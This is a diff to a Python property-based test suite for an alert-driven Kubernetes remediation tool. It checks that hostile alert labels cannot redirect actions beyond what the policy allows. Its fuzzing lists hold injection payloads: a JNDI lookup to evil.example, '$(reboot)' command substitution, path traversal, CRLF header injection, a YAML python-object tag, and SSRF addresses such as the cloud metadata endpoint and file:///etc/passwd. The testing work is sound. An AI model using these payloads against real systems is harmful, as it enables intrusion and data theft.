@@ -2,8 +2,9 @@
 
 One runbook has a step of every action. Notifications of hostile texts go the whole way: the parser, the
 journey, every guard and the step performer, in a town that has whatever is asked for and keeps what reached
-it. The labels may choose among the catalog's services, for rules say so. What is done to the one they chose
-is what an ordinary alert does to it, to the letter: no target, image, number, word or host is theirs.
+it. The labels may choose among the catalog's services, or name an object, for rules say so. What is done to
+the workload they chose is what an ordinary alert does to it, to the letter: no image, number, word or host is
+theirs, nor any target that the policy does not allow.
 """
 
 from __future__ import annotations
@@ -37,7 +38,6 @@ from tests.property.test_hostile_labels import (
     ANYTHING,
     HOSTILE,
     INCIDENT,
-    NAMES,
     READ,
     RECKLESS,
     URLS,
@@ -94,7 +94,7 @@ def test_every_action_has_a_scene() -> None:
 
 @dataclass
 class Town(Witness):
-    """Every workload has pods, revisions and memories as the actions want them; all that reaches it is kept."""
+    """Every workload has pods, revisions and memories as the actions want them; what reaches it is kept."""
 
     isolated: set[WorkloadRef] = field(default_factory=set)
     scaled: set[WorkloadRef] = field(default_factory=set)
@@ -113,22 +113,27 @@ class Town(Witness):
         )
 
     async def pods(self, workload: Workload) -> tuple[Pod, ...]:
+        """The first is well, the second is not; the third is none of its own, whatever it is labelled."""
         self.looked_at.add(workload.ref)
+        ref = workload.ref
+        own = f"replicaset/{ref.name}-5d9c7" if ref.kind == "deployment" else f"{ref.kind}/{ref.name}"
         return tuple(
             Pod(
-                name=f"{workload.ref.name}-{number}",
+                name=f"{ref.name}-{number}",
                 phase="Running",
                 ready=number == 0,
                 restarts=0,
-                uid=f"{workload.ref.path}/{number}",
+                uid=f"{ref.path}/{number}",
                 containers=("main",),
-                controller="replicaset/it",
+                controller=maker,
             )
-            for number in range(2)
+            for number, maker in enumerate([own, own, "replicaset/stranger-1"])
         )
 
     async def logs(self, namespace: str, pod: str, container: str, **asked: object) -> tuple[str, ...]:
-        assert (pod, container) in {(f"{ref.name}-{n}", "main") for ref in self.looked_at for n in (0, 1)}
+        of, _, number = pod.rpartition("-")
+        assert (namespace, of) in {(ref.namespace, ref.name) for ref in self.looked_at}
+        assert (number in "012", container) == (True, "main")
         return ()
 
     async def revisions(self, workload: Workload) -> tuple[Revision, ...]:
@@ -209,11 +214,16 @@ async def told(alerts: Alerts) -> tuple[Town, MemoryStore]:
 
 @dataclass(frozen=True, kw_only=True)
 class Done:
-    """All that is done to one service's workload. ``words``: with the incident's name left open."""
+    """All that is done to one workload. ``programs``: with the incident's name left open."""
 
     changes: Sequence[ClusterChange]
     programs: Sequence[Program]
     requests: Sequence[HttpRequest]
+
+
+def unnamed(change: ClusterChange) -> ClusterChange:
+    """Without the name of the job, which follows from the incident's."""
+    return replace(change, job_uid="") if isinstance(change, RunJob) else change
 
 
 def open_words(program: Program) -> Program:
@@ -222,29 +232,31 @@ def open_words(program: Program) -> Program:
 
 
 @cache
-def ordinary() -> dict[WorkloadRef, Done]:
-    """What an alert whose labels are as they should be does, for each service that may be changed."""
-    found = {}
-    for name in NAMED:
+def ordinary(ref: WorkloadRef) -> Done:
+    """What an alert does whose labels are as they should be: they say which workload it is, and no more."""
+    name = next((name for name, one in policy().services.items() if one.workload == ref), None)
+    if name is not None:
         labels = {"alertname": "ServiceDown", "severity": "critical", "service": name}
-        town, _ = asyncio.run(told([(labels, {})]))
-        ref = policy().services[name].workload
-        assert ref is not None
-        found[ref] = Done(
-            changes=town.applied, programs=[open_words(one) for one in town.ran], requests=town.sent
-        )
-    return found
+    else:
+        assert ref.kind == "statefulset", "labels name no other kind"
+        labels = {"alertname": "x", "severity": "some", "namespace": ref.namespace, "pod": ref.name}
+    town, store = asyncio.run(told([(labels, {})]))
+    steps = [e for each in store._timelines.values() for e in each if e.kind is Kind.STEP]
+    done = [str(e.data["action"]) for e in steps if e.data["result"] in ("done", "begun")]
+    expected = list(SCENES) if name is not None else list(SCENES)[: list(SCENES).index("http")]
+    assert list(dict.fromkeys(done)) == expected, [e.text for e in steps]
+    changes = [unnamed(change) for change in town.applied]
+    return Done(changes=changes, programs=[open_words(one) for one in town.ran], requests=town.sent)
 
 
 def test_an_ordinary_alert_performs_every_action() -> None:
-    """The property below is not true for want of changes."""
-    for name in NAMED:
-        labels = {"alertname": "ServiceDown", "severity": "critical", "service": name}
-        _, store = asyncio.run(told([(labels, {})]))
-        [timeline] = store._timelines.values()
-        steps = [e for e in timeline if e.kind is Kind.STEP and e.data["result"] in ("done", "begun")]
-        assert {entry.data["action"] for entry in steps} == set(SCENES), [e.text for e in timeline]
-    assert {change.target for done in ordinary().values() for change in done.changes} == allowed(policy())
+    """The property below is not true for want of changes. Who is not in the catalog has no host to ask."""
+    stranger = WorkloadRef(kind="statefulset", namespace="shop", name="batch-1")
+    for ref in (*allowed(policy()), stranger):
+        done = ordinary(ref)
+        assert {change.target for change in done.changes} == {ref}
+        assert {program.of for program in done.programs} == {ref}
+    assert {policy().services[name].workload for name in NAMED} == allowed(policy())
 
 
 # --- whatever the labels say ---
@@ -253,62 +265,94 @@ def test_an_ordinary_alert_performs_every_action() -> None:
 def held(town: Town, store: MemoryStore) -> None:
     """Everything that reached the world is inside of what the policy allows, and is its author's own."""
     check(policy(), town, store)
-    guards, done = policy().guards, ordinary()
+    guards = policy().guards
     for change in town.applied:
         for ref in (change.target, change.fenced_on):
             assert ref.namespace in guards.namespaces
             assert f"{ref.kind}/{ref.name}" not in guards.protect
-        assert change in done[change.target].changes
-    assert town.claimed <= {change.fenced_on for one in done.values() for change in one.changes}
+        assert unnamed(change) in ordinary(change.target).changes
+    meant = {change.fenced_on for change in town.applied}
+    assert town.claimed <= meant, "nothing is claimed that is not changed"
     for program in town.ran:
-        assert open_words(program) in done[program.of].programs
+        assert program.of.namespace in guards.namespaces
+        assert open_words(program) in ordinary(program.of).programs
         assert len(program.command) == 5, "a label is one word at most"
+    known = [request for name in NAMED for request in ordinary(_workload(name)).requests]
     for request, key in zip(town.sent, town.keys, strict=True):
-        assert request in [one for each in done.values() for one in each.requests]
+        assert request in known
         assert re.fullmatch(rf"{INCIDENT.pattern}/[0-9]+/[0-9]+", key), "a header of one line"
+
+
+def _workload(name: str) -> WorkloadRef:
+    found = policy().services[name].workload
+    assert found is not None
+    return found
 
 
 ESCAPES = (
     "kube-system", "kube-public", "remediator", "far", "data", "statefulset/data", "elsewhere/deployment/far",
-    "shop/../kube-system", "shop/deployment/web", "web/scale", "web/../data", "..%2f..%2fkube-system", "web%00",
-    "./web", "web/", "//web", "web?dryRun=All", "web#x", "web;data", "web,data", "web data", "web|data", ".*", "",
+    "shop/../kube-system", "shop/deployment/web", "web/scale", "web/../data", "..%2f..%2fkube-system", ".*",
+    "./web", "web/", "//web", "web?dryRun=All", "web#x", "web;data", "web,data", "web data", "web|data", "",
 )  # fmt: skip
 TEMPLATES = (
     "{{ service.name }}", "{{ labels['namespace'] }}", "{% for x in labels %}{{ x }}{% endfor %}", "{#",
-    "${jndi:ldap://evil.example/x}", "${IFS}", "$(reboot)", "`reboot`", "#{7*7}", "<%= 7*7 %>", "%(x)s", "{0.__class__}",
+    "${jndi:ldap://evil.example/x}", "${IFS}", "$(reboot)", "`reboot`", "#{7*7}", "<%= 7*7 %>", "%(x)s",
 )  # fmt: skip
 BREAKERS = (
-    '"}', '", "of": "data', "'\"", "\\", "\\u0000", "web\n- name: x\n  mode: auto", "!!python/object:os.system",
+    '"}', '", "of": "data', "'\"", "\\", "\\u0000", "web\n- name: x\n  mode: auto", "!!python/object:os.f",
     "&a *a", "{a: b}", "null", "~", "true", "1e999", "NaN", "-", "---", "<x/>", "--help", "-o", "--id",
 )  # fmt: skip
 LOOKALIKES = (
-    "w\u0435b", "\uff57\uff45\uff42", "we\u200bb", "web\u202e", "\u2066web\u2069", "WEB", "\u017fhop", "web\u0301",
-    "\ufeffweb", "web\u2028", "web\u00a0", "\u1e9e", "\u0130", "da\u00adta", "\U0001f4a5",
+    "w\u0435b", "\uff57\uff45\uff42", "we\u200bb", "web\u202e", "\u2066web\u2069", "WEB", "\u017fhop",
+    "\ufeffweb", "web\u2028", "web\u00a0", "web\u0301", "\u1e9e", "\u0130", "da\u00adta", "\U0001f4a5",
 )  # fmt: skip
-CONTROLS = ("web\0", "\0", "web\r\nX-Evil: 1\r\n\r\n", "web\x1b]0;x\x07", "\x7f", "\x9b31m", "web\x0bdata", "\t")
-SELECTORS = ("app in (web, data)", "app!=web", "!app", "*", "a=b,c=d", 'up{x="y"} or vector(1)', "=~.*", '!="')
+CONTROLS = ("web\r\nX-Evil: 1\r\n\r\n", "web\x1b]0;x\x07", "\x7f", "\x9b31m", "web\x0bdata", "\t", "web\x01")
+SELECTORS = ("app in (web, data)", "app!=web", "!app", "*", "a=b,c=d", 'up{x="y"} or vector(1)', "=~.*")
 ADDRESSES = (
     "http://169.254.169.254/latest/meta-data/", "http://data.shop:8080/", "http://web.shop:8080@evil.example/",
-    "http://evil.example#web.shop:8080", "//evil.example", "file:///etc/passwd", "[::1]:8080", "http://[::ffff:a9fe:a9fe]/",
+    "http://evil.example#web.shop:8080", "//evil.example", "file:///etc/passwd", "[::1]:8080", "web:8080",
 )  # fmt: skip
 LONG = st.builds(
     lambda unit, length: (unit * length)[:length],
     st.sampled_from(["a", "web", "../", "{{", "\u00e9", "-", "(a+)+"]),
-    st.sampled_from([63, 64, 253, 254, 4095, 4096, 4097, 65536]),
+    st.sampled_from([63, 64, 253, 254] * 4 + [4095, 4096, 4097, 65536]),
 )
+"""The longest ones are dead letters, alone."""
 ONE = st.one_of(
-    *(st.sampled_from(each) for each in (NAMES, HOSTILE, ESCAPES, TEMPLATES, BREAKERS, LOOKALIKES, SELECTORS)),
+    *(st.sampled_from(each) for each in (HOSTILE, ESCAPES, TEMPLATES, BREAKERS, LOOKALIKES, SELECTORS)),
     *(st.sampled_from(each) for each in (CONTROLS, ADDRESSES)),
     LONG,
     ANYTHING,
 )  # fmt: skip
-VALUES = st.one_of(st.sampled_from(NAMES), ONE, st.builds(lambda a, b: a + b, ONE, ONE))
+VALUES = st.builds(
+    str, st.one_of(ONE, st.builds(lambda a, b: a + b, st.one_of(ONE, st.sampled_from(NAMED)), ONE))
+)
+"""Built, so that they count as one where they are chosen among others."""
 KEYS = st.one_of(st.sampled_from(READ[1:]), st.sampled_from(READ[1:]).map(str.upper), ONE.filter(bool))
+SERVICES = st.one_of(
+    *[st.sampled_from(NAMED)] * 2, st.sampled_from(["data", "far", "bare", "stranger"]), VALUES
+)
+PLACES = st.one_of(
+    *[st.just("shop")] * 2, st.sampled_from(["elsewhere", "kube-system", "remediator"]), VALUES
+)
+PADDED = st.builds(lambda pad, name: f"{pad}{name.upper()}{pad}", st.sampled_from(["", " ", "\n"]), SERVICES)
+CHOOSING = st.one_of(
+    st.fixed_dictionaries({"severity": st.just("critical"), "service": SERVICES}),
+    st.fixed_dictionaries({"severity": st.just("warning"), "deployment": SERVICES}),
+    st.fixed_dictionaries({"severity": st.just("info"), "namespace": PADDED}),
+    st.fixed_dictionaries({
+        "severity": st.sampled_from(["none", "some"]),
+        "namespace": PLACES,
+        "pod": st.one_of(*[st.sampled_from(["batch-1", "web", "api", "data"])] * 3, VALUES),
+    }),
+    st.fixed_dictionaries({"severity": VALUES, "job": SERVICES}),
+)  # fmt: skip
+"""What the rules read to choose: as it should be, or not."""
 LABELS = st.builds(
-    lambda name, level, others: {**others, "alertname": name, "severity": level},
+    lambda others, choosing, name: {**others, **choosing, "alertname": name},
+    st.dictionaries(KEYS, VALUES, max_size=6),
+    CHOOSING,
     VALUES,
-    st.one_of(st.sampled_from(["critical", "warning", "info"]), VALUES),
-    st.dictionaries(KEYS, VALUES, max_size=7),
 )
 ANNOTATIONS = st.dictionaries(
     st.one_of(st.sampled_from(["summary", "description", "runbook_url", "dashboard"]), ONE.filter(bool)),
@@ -319,13 +363,7 @@ ALERT_LISTS = st.lists(st.tuples(LABELS, ANNOTATIONS), min_size=1, max_size=2)
 
 
 def whatever_they_say(alerts: Alerts) -> None:
-    """A body with a NUL is refused as a whole; nothing is even looked at."""
-    try:
-        town, store = asyncio.run(told(alerts))
-    except BadPayload as refused:
-        assert "NUL" in str(refused)
-        return
-    held(town, store)
+    held(*asyncio.run(told(alerts)))
 
 
 @settings(max_examples=1000, deadline=None)
@@ -333,6 +371,9 @@ def whatever_they_say(alerts: Alerts) -> None:
 @example([({"alertname": "x", "severity": "critical", "service": "web"}, {})])
 @example([({"alertname": "x", "severity": "info", "namespace": " API "}, {"summary": "\x1b[2J"})])
 @example([({"alertname": "x", "severity": "y", "pod": "w", "container": "eb"}, {})])
+@example([({"alertname": "x", "severity": "none", "namespace": "shop", "pod": "batch-1"}, {})])
+@example([({"alertname": "x", "severity": "some", "namespace": "shop", "pod": "data"}, {})])
+@example([({"alertname": "x", "severity": "none", "namespace": "kube-system", "pod": "web"}, {})])
 def test_whatever_the_labels_say_every_action_changes_what_its_author_meant(alerts: Alerts) -> None:
     whatever_they_say(alerts)
 
@@ -342,3 +383,12 @@ def test_whatever_the_labels_say_every_action_changes_what_its_author_meant(aler
 @given(ALERT_LISTS)
 def test_whatever_the_labels_say_every_action_changes_what_its_author_meant_at_length(alerts: Alerts) -> None:
     whatever_they_say(alerts)
+
+
+@given(ALERT_LISTS, st.sampled_from(["\0", "\ud800", "\udfff"]))
+def test_a_character_that_is_none_refuses_the_whole_notification(alerts: Alerts, character: str) -> None:
+    """NUL and half a character: nothing of it is even looked at."""
+    labels, annotations = alerts[-1]
+    for worse in (({**labels, "pod": character}, annotations), (labels, {**annotations, character: "x"})):
+        with pytest.raises(BadPayload, match=r"NUL|lone surrogate"):
+            asyncio.run(told([*alerts[:-1], worse]))
